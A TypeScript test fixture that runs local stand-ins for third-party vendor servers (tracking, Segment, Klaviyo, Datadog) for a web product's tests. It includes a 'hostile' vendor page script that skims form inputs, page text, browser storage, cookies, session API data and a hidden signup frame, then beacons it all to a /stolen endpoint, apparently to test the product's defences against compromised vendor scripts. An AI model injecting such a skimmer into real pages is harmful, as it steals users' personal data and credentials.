import type { ThirdPartyVariable } from "#contracts/site/third-parties.ts";
import { datadogPayload } from "./datadog-payload.ts";
import { type VendorResponse, VendorServer } from "./vendor-server.ts";

const pixel = Buffer.from("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7", "base64");

const script = (body: string): VendorResponse => ({ type: "text/javascript", body });

/** A vendor's page script: reports each page on which it runs. */
const pageScript = (vendor: string) => `(() => {
  navigator.sendBeacon(${JSON.stringify(vendor)} + "/page?" + new URLSearchParams({ page: location.pathname }));
})();`;

/**
 * A page script that takes everything that it can reach: what is typed and shown, what the browser stores, the household's
 * data from the API, and the enrollment in a frame. It also tries to survive in the enrollment.
 */
const hostilePageScript = (vendor: string) => `(() => {
  const url = ${JSON.stringify(vendor)};
  const send = (stolen) => navigator.sendBeacon(url + "/stolen", JSON.stringify({ page: location.pathname, stolen }));
  const read = (from, doc) => {
    for (const { value } of doc.querySelectorAll("input, select, textarea")) if (value) send([from, value]);
    send([from, doc.body?.innerText ?? ""]);
  };
  const steal = () => {
    send(["storage", { ...localStorage }, { ...sessionStorage }, document.cookie]);
    const session = localStorage.getItem("session_id");
    if (session) fetch("/api/session/" + session).then((response) => response.text()).then((text) => send(["api", text]));
    read("page", document);
    for (const frame of document.querySelectorAll("iframe")) {
      try { read("frame", frame.contentDocument); } catch { /* another origin */ }
    }
  };
  const frame = document.createElement("iframe");
  frame.hidden = true;
  frame.src = "/signup";
  document.body.append(frame);
  for (const event of ["input", "change", "submit", "click", "pagehide", "pageshow"]) addEventListener(event, steal, true);
  setInterval(steal, 250);
  steal();
})();`;

/** All vendors as local servers, with the environment that points the product to them. */
export class ThirdPartyDoubles {
  private readonly pageScript: (vendor: string) => string;

  constructor({ isHostile = false } = {}) {
    this.pageScript = isHostile ? hostilePageScript : pageScript;
  }

  readonly tracking = new VendorServer(({ path }) =>
    path === "/sread.php" ? { type: "text/plain", body: "OK" } : { type: "image/gif", body: pixel },
  );
  readonly scripts: VendorServer = new VendorServer(() => script(this.pageScript(this.tracking.url)));
  readonly segment = new VendorServer();
  readonly klaviyo: VendorServer = new VendorServer(({ path }) =>
    path.endsWith(".js") ? script(this.pageScript(this.klaviyo.url)) : {},
  );
  readonly datadog = new VendorServer(() => ({ status: 202 }));

  async start(): Promise<this> {
    await Promise.all(this.all.map((server) => server.start()));
    return this;
  }

  async stop(): Promise<void> {
    await Promise.all(this.all.map((server) => server.stop()));
  }

  reset(): void {
    for (const server of this.all) server.reset();
  }

  /** Every request to any vendor as "METHOD url", for assertions that there was none. */
  get allRequests(): string[] {
    return this.all.flatMap(({ requests, url }) =>
      requests.map(({ method, path }) => `${method} ${url}${path}`),
    );
  }

  get datadogPayloads(): string[] {
    return this.datadog.requests.filter(({ method }) => method === "POST").map(datadogPayload);
  }

  get environment(): Record<ThirdPartyVariable, string> {
    return {
      AWIN_ADVERTISER_ID: "1001",
      AWIN_SCRIPTS: this.scripts.url,
      AWIN_TRACKING: this.tracking.url,
      SEGMENT_WRITE_KEY: "write-key",
      SEGMENT_API: `${this.segment.url}/v1`,
      KLAVIYO_COMPANY_ID: "Ab12Cd",
      KLAVIYO_SCRIPTS: this.klaviyo.url,
      KLAVIYO_API: this.klaviyo.url,
      DATADOG_APPLICATION_ID: "11112222-3333-4444-5555-666677778888",
      DATADOG_CLIENT_TOKEN: "pub0123456789abcdef0123456789abcdef",
      DATADOG_SITE: "datadoghq.com",
      DATADOG_PROXY: `${this.datadog.url}/intake`,
    };
  }

  private get all(): VendorServer[] {
    return [this.tracking, this.scripts, this.segment, this.klaviyo, this.datadog];
  }
}
